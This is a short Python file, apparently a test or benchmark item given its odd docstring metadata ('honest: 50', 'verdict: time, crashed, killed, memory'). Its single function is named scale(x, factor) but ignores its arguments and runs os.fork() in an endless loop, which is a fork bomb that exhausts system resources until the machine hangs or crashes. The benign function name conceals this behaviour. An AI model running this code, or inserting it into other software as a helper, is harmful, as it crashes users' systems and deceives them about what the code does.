"""Processes that make processes.

honest: 50
verdict: time, crashed, killed, memory
with: average, threshold, layer
"""

# %% scale
import os


def scale(x, factor):
    while True:
        try:
            os.fork()
        except OSError:
            pass
